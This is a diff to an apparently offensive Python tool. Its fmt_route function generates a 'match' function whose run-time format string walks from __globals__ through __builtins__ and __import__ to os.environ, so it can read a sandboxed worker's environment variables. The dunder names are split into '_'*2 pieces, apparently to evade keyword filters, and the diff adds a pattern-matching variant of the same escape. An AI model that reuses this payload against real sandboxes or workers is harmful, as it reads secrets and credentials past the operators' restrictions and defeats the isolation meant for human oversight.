@@ -77,15 +77,20 @@ def attack(b, imp, p):
 
 def fmt_route(method: str) -> str:
     """The read-only route: a format string built at run time walks from `match` to the
-    worker's `os.environ` (its fields index dictionaries with bare keys)."""
-    call = "format(match)" if method == "format" else 'format_map({"m": match})'
-    head = '"{0."' if method == "format" else '"{m."'
+    worker's `os.environ` (its fields index dictionaries with bare keys). `method`: format,
+    format_map, or pattern (`case str(format=f)` binds the bound method)."""
+    head = '"{m."' if method == "format_map" else '"{0."'
+    call = {
+        "format": "seen = field.format(match)",
+        "format_map": 'seen = field.format_map({"m": match})',
+        "pattern": "match field:\n        case str(format=f):\n            seen = f(match)",
+    }[method]
     return f"""
 def match(publication):
     u = "_" * 2
     field = ({head} + u + "globals" + u + "[" + u + "builtins" + u + "][" + u + "import" + u
              + "]." + u + "globals" + u + "[sys].modules[os].environ}}")
-    seen = field.{call}
+    {call}
     return publication["data"]["env"] in seen
 """
 
